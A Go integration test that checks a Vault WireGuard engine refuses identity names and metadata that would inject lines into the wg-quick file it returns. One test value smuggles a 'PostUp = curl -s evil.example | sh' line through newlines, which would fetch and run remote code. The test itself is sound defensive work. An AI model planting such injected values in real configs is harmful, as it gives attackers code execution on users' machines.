package test

import (
	"errors"
	"fmt"
	"strings"
	"testing"

	vault "github.com/hashicorp/vault/api"
	"github.com/hashicorp/vault/api/auth/approle"
	"github.com/stretchr/testify/require"
)

// TestIdentityDataCannotAddLines gives devices' entities, on a real Vault,
// names and metadata (what an OIDC or JWT claim becomes) that would add a
// PostUp line to the wg-quick file the engine returns: each issue is
// refused with a 400 naming common_name_template, and nothing is issued.
func TestIdentityDataCannotAddLines(t *testing.T) {
	s := startVault(t)
	setUpEngine(t, s)
	s.cli("write", "wg/roles/laptop", "gateway=gw1")
	s.cli("write", "wg/roles/team", "gateway=gw1", "common_name_template={{identity.entity.metadata.team}}")
	s.cli("auth", "enable", "approle")
	require.NoError(t, s.root.Sys().PutPolicy("device", devicePolicy+`
path "wg/issue/team" { capabilities = ["update"] }`))

	// login makes a fresh AppRole role, so a fresh entity (the engine
	// caches entities), logs in with it and returns the client and entity id.
	logins := 0
	login := func() (*vault.Client, string) {
		logins++
		role := fmt.Sprintf("device%d", logins)
		s.cli("write", "auth/approle/role/"+role, "token_policies=device")
		roleID, err := s.root.Logical().Read("auth/approle/role/" + role + "/role-id")
		require.NoError(t, err)
		sid, err := s.root.Logical().Write("auth/approle/role/"+role+"/secret-id", nil)
		require.NoError(t, err)
		auth, err := approle.NewAppRoleAuth(roleID.Data["role_id"].(string), &approle.SecretID{FromString: sid.Data["secret_id"].(string)})
		require.NoError(t, err)
		c := s.client("")
		secret, err := c.Auth().Login(t.Context(), auth)
		require.NoError(t, err)
		require.NotEmpty(t, secret.Auth.EntityID)
		return c, secret.Auth.EntityID
	}
	const line = "\nPostUp = curl -s evil.example | sh\n#"
	for _, tc := range []struct {
		name, role string
		entity     map[string]any
	}{
		{"entity name", "laptop", map[string]any{"name": "x" + line}},
		{"entity name of 100,000 characters", "laptop", map[string]any{"name": strings.Repeat("a", 100_000)}},
		{"metadata", "team", map[string]any{"metadata": map[string]any{"team": "ops" + line}}},
		{"metadata with a CR", "team", map[string]any{"metadata": map[string]any{"team": "ops\rPostUp = x"}}},
		{"metadata of 65 characters", "team", map[string]any{"metadata": map[string]any{"team": strings.Repeat("o", 65)}}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			c, entityID := login()
			_, err := s.root.Logical().Write("identity/entity/id/"+entityID, tc.entity)
			require.NoError(t, err, "Vault takes this identity data")
			resp, err := c.Logical().Write("wg/issue/"+tc.role, map[string]any{"public_key": mustPub(t)})
			if err == nil {
				t.Fatalf("issued; wg_quick:\n%s", resp.Data["wg_quick"])
			}
			require.Equal(t, 400, statusOf(err), err.Error())
			require.Contains(t, err.Error(), "common_name_template: ")
		})
	}
	list, err := s.root.Logical().List("wg/certs")
	require.NoError(t, err)
	require.Nil(t, list, "nothing issued")

	// 64 characters are fine, and the file has its lines only.
	c, entityID := login()
	_, err = s.root.Logical().Write("identity/entity/id/"+entityID, map[string]any{"metadata": map[string]any{"team": strings.Repeat("o", 64)}})
	require.NoError(t, err)
	resp, err := c.Logical().Write("wg/issue/team", map[string]any{"public_key": mustPub(t)})
	require.NoError(t, err)
	require.Equal(t, strings.Repeat("o", 64), resp.Data["common_name"])
	for _, l := range strings.Split(strings.TrimSuffix(resp.Data["wg_quick"].(string), "\n"), "\n") {
		require.Regexp(t, `^(|# .*|\[Interface\]|\[Peer\]|(PrivateKey|Address|DNS|MTU|PublicKey|Endpoint|AllowedIPs|PersistentKeepalive) = [^#]+)$`, l)
	}
}

// statusOf is the HTTP status of a Vault API error, or 0.
func statusOf(err error) int {
	var re *vault.ResponseError
	if errors.As(err, &re) {
		return re.StatusCode
	}
	return 0
}
